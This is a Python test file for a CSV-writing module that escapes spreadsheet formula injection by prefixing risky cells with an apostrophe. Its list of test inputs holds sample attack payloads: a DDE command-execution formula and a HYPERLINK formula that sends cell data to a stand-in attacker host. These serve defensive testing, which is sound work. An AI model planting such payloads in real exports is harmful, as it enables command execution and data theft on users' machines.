"""Cells of a table: no spreadsheet computes one, and each is read back as the text that it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardian.rules.cells import read, written
from guardian.rules.columns import as_record, read_header
from guardian.rules.table import Row, Table

STARTS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n' \ufeff\u200b\xa0a"
TEXTS = st.text(max_size=12) | st.text(st.sampled_from(STARTS), max_size=8).flatmap(
    lambda start: st.text(max_size=8).map(lambda rest: start + rest)
)
FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "\t=1", "\r=1",
    "\n=1", " =1", "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\ufeff=1", "'=1", "''+1", "' -1",
)  # fmt: skip


@given(TEXTS)
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert read(written(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    assert written(text) == f"'{text}"


@given(TEXTS)
def test_what_is_written_begins_with_no_sign_of_a_formula_behind_whatever_is_stripped(text: str) -> None:
    assert not written(text).strip().strip("\ufeff\u200b").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))


@pytest.mark.parametrize("text", ["hello", "'tis the season", "5 - 3 = 2", "a@b.example", "", "'", "1", "don't"])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert (written(text), read(text)) == (text, text)


@given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=3, max_size=3))
def test_a_table_with_any_texts_is_read_back_whole(texts: list[str]) -> None:
    """Through the writer and the reader themselves: the separators of other countries cut nothing out of a cell."""
    text, warning, alt = (one.encode("utf-8", "replace").decode() for one in texts)
    out = io.StringIO(newline="")
    table = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    table.writerow(["account", "at", "text", "warning", "media1_path", "media1_alt"])
    table.writerow(["acme", "now", *map(written, (text, warning)), "a.png", written(alt)])
    rows = [row for row in Table(io.BytesIO(out.getvalue().encode())).rows() if isinstance(row, Row)]
    record, _ = as_record(read_header(rows[0].fields), rows[1].fields)
    assert (record["text"], record.get("warning", "")) == (text, warning)
    assert record["media"][0].get("alt", "") == alt
